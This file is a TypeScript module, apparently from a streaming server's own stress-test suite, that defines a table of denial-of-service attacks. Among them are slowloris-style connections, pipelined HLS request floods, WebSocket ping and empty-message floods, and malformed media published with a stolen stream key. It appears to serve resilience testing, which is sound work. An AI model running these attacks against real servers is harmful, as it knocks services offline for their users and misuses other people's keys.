import { connect, type Socket } from 'node:net';
import { WebSocket } from 'ws';

import { sleep } from '../bench/clock.js';
import { chatTexts } from '../fuzz/crafted-texts.js';
import { flvTags, matroska, mp4, ogg, transportStream } from '../fuzz/crafted-media.js';

export interface AttackOptions {
  readonly origin: string;
  /** A stream that others watch meanwhile. */
  readonly stream: string;
  /** A key of one other stream, in the hands of somebody who means harm. */
  readonly victimKey: { readonly stream: string; readonly key: string };
  readonly signal: AbortSignal;
}

/** One way to stop a server; it goes on until the signal comes, and counts what it did. */
export type Attack = (options: AttackOptions) => Promise<number>;

const craftedBytes = 320_000;

/** Everything that once stopped a server of this kind, or took its memory, or lied to the caches in front of it. */
export const attacks: Readonly<Record<string, Attack>> = {
  'chat: marks that cost the square of their number': withSockets(5, '/chat', (socket) => {
    for (const [, text] of chatTexts(2600)) socket.send(JSON.stringify({ type: 'message', text }));
  }),
  'one connection with thousands of held requests': withConnections(4, (socket, { stream }) => {
    const request = `GET /live/${stream}/index.m3u8?_HLS_msn=1000000 HTTP/1.1\r\nHost: x\r\n\r\n`;
    socket.write(request.repeat(2000));
  }),
  'recordings that claim what they do not hold': async (options) => {
    const recordings = [matroska, mp4, flvTags, transportStream, ogg].flatMap((craft) => craft(craftedBytes).map(([, input]) => input));
    let sent = 0;
    while (!options.signal.aborted) {
      const url = `${options.origin.replace('http', 'ws')}/live/${options.victimKey.stream}/publish?key=${options.victimKey.key}`;
      await inOneSocket(url, options.signal, (socket) => socket.send(recordings[sent++ % recordings.length] ?? ''));
    }
    return sent;
  },
  'pings whose answers nobody reads': withSockets(3, '/play', (socket) => {
    socket.pause();
    for (let number = 0; number < 200; number++) socket.ping('x'.repeat(100));
  }),
  'messages of nothing': withSockets(4, '/play', (socket) => {
    for (let number = 0; number < 5000; number++) socket.send('');
  }),
  'links with made-up tokens': withRequests(({ stream }, number) => `/live/${stream}/~${String(number)}.${'A'.repeat(43)}/index.m3u8`),
  'parts and playlists of the future': withRequests(({ stream }, number) => `/live/${stream}/x/${String(100_000 + number)}.0.m4s`),
  'heads that come byte by byte': withConnections(20, (socket) => socket.write('G')),
  'connections that say nothing': withConnections(50, () => undefined),
  'noise': withConnections(4, (socket) => socket.write(Buffer.alloc(4096, '\u0016\u0003\u0001'))),
};

/** Opens sockets without a key, again whenever they are closed, and lets each act all the time. */
function withSockets(count: number, path: string, act: (socket: WebSocket) => void): Attack {
  return async ({ origin, stream, signal }) => {
    let acts = 0;
    const one = async (): Promise<void> => {
      while (!signal.aborted) {
        await inOneSocket(`${origin.replace('http', 'ws')}/live/${stream}${path}`, signal, (socket) => {
          act(socket);
          acts++;
        });
      }
    };
    await Promise.all(Array.from({ length: count }, one));
    return acts;
  };
}

/** Acts on one socket until it closes; a refused one is left for a moment. */
async function inOneSocket(url: string, signal: AbortSignal, act: (socket: WebSocket) => void): Promise<void> {
  const socket = new WebSocket(url, { perMessageDeflate: false });
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.on('error', () => undefined);
  socket.once('open', () => {
    const timer = setInterval(() => (socket.bufferedAmount < 4_000_000 ? act(socket) : undefined), 10);
    socket.once('close', () => clearInterval(timer));
  });
  const stop = (): void => socket.terminate();
  signal.addEventListener('abort', stop, { once: true });
  await closed;
  signal.removeEventListener('abort', stop);
  if (!signal.aborted) await sleep(20);
}

function withConnections(count: number, act: (socket: Socket, options: AttackOptions) => void): Attack {
  return async (options) => {
    const { hostname, port } = new URL(options.origin);
    let opened = 0;
    const one = async (): Promise<void> => {
      while (!options.signal.aborted) {
        const socket = connect(Number(port), hostname);
        opened++;
        socket.on('error', () => undefined).on('data', () => undefined);
        socket.once('connect', () => act(socket, options));
        const stop = (): void => void socket.destroy();
        options.signal.addEventListener('abort', stop, { once: true });
        await new Promise((resolve) => socket.once('close', resolve));
        options.signal.removeEventListener('abort', stop);
        await sleep(20);
      }
    };
    await Promise.all(Array.from({ length: count }, one));
    return opened;
  };
}

function withRequests(pathOf: (options: AttackOptions, number: number) => string): Attack {
  return async (options) => {
    let asked = 0;
    while (!options.signal.aborted) {
      const answer = await fetch(`${options.origin}${pathOf(options, asked++)}`).catch(() => undefined);
      await answer?.arrayBuffer().catch(() => undefined);
    }
    return asked;
  };
}
